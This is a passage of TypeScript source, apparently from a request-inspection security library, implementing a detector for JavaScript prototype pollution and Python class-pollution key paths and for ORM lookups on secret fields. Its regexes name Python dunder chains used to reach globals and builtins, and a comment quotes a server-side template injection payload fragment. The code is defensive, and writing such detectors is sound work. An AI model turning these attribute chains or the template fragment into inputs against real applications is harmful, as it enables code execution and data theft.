 * two of these names in one key path is that walk. One alone is a type tag (`{"__class__": "Decimal"}`). In a value
 * (prose about Python: `self.__class__.__name__`) the walk must also reach globals, builtins or the class tree.
 */
const DUNDER = re('__(?:class|init|globals|builtins|base|bases|mro|subclasses|dict|module|loader|spec|getattribute|reduce|reduce_ex|import|code|func|self|wrapped|kwdefaults|defaults)__', 'g');
const DUNDER_REACH = re('__(?:globals|builtins|subclasses|mro|bases?|loader|spec|kwdefaults|import)__');

/** Where the first of two dunder names in `s` starts, or -1. */
function dunderPath(s: string): number {
  DUNDER.lastIndex = 0;
  let n = 0;
  let first = -1;
  for (let m = DUNDER.exec(s); m !== null && n < 2; m = DUNDER.exec(s)) {
    if (n === 0) first = m.index;
    n++;
  }
  return n >= 2 ? first : -1;
}

export const prototypeDetector: ValueDetector = {
  name: 'prototype-pollution',
  rules: Object.values(PROTO),
  trigger: 0,
  inspect(view: View, item: Item, out: Emitter): void {
    const l = view.lower;
    if (item.kind === 'key') {
      if (l.includes('__')) ormRelations(view, out);
      if ((l.includes('__') || l.includes('[') || l.includes('.')) && (l.includes('pass') || l.includes('secret') || l.includes('token') || l.includes('key') || l.includes('hash') || l.includes('salt') || l.includes('otp') || l.includes('pwd'))) {
        const o = ORM_SECRET.exec(l);
        if (o !== null) out.emit(PROTO.ormLookup, excerpt(view.text, o.index));
      }
      // The key's location holds the path to it (`body-key:/__class__/__init__`, `query-key:__class__[__init__]`).
      if (l.length >= 6 && l.includes('__') && dunderPath(item.location.toLowerCase()) !== -1) out.emit(PROTO.pythonClass, excerpt(item.location, 0));
      if (!l.includes('proto') && !l.includes('constructor')) return;
      const loc = item.location.toLowerCase();
      if (l.includes('__proto__') || (l.includes('constructor') && (l.includes('prototype') || loc.includes('prototype'))) || (l === 'prototype' && loc.includes('constructor/prototype'))) {
        out.emit(PROTO.key, excerpt(view.text, 0));
      }
      return;
    }
    if ((view.mask & (M.BRACKET | M.DOT | M.DQUOTE)) === 0) return;
    // A path, not a template expression (`{{''.__class__.__mro__[1]...()}}` is the SSTI detector's): no braces, no calls.
    if (l.includes('__') && (view.mask & (M.DOT | M.BRACKET)) !== 0 && (view.mask & (M.PAREN | M.BRACE)) === 0) {
      const d = dunderPath(l);
      if (d !== -1 && DUNDER_REACH.test(l)) out.emit(PROTO.pythonClass, excerpt(view.text, d));
    }
    if (!l.includes('__proto__') && !l.includes('prototype')) return;
    const a = PROTO_ASSIGN.exec(l);
    if (a !== null) out.emit(PROTO.assignment, excerpt(view.text, a.index));
    else if (l.includes('__proto__')) out.emit(PROTO.value, excerpt(view.text, l.indexOf('__proto__')));
  },
};
